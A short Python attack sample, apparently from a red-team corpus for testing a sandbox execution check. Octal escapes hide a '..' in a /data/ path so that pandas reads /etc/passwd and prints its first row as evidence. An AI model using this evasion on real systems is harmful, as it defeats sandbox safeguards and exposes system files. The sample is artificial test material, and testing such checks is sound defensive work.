# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 7 path literal decoded and joined
# source: own
# family: host-path literal escapes - literal /data/ path whose '..' is written as octal escapes
# goal: read /etc/passwd
# needs-data
import json
import pandas as pd
df = pd.read_csv("/data/\056\056/etc/passwd", sep=":", header=None)
print(json.dumps({"evidence": str(df.iloc[0].tolist())}))
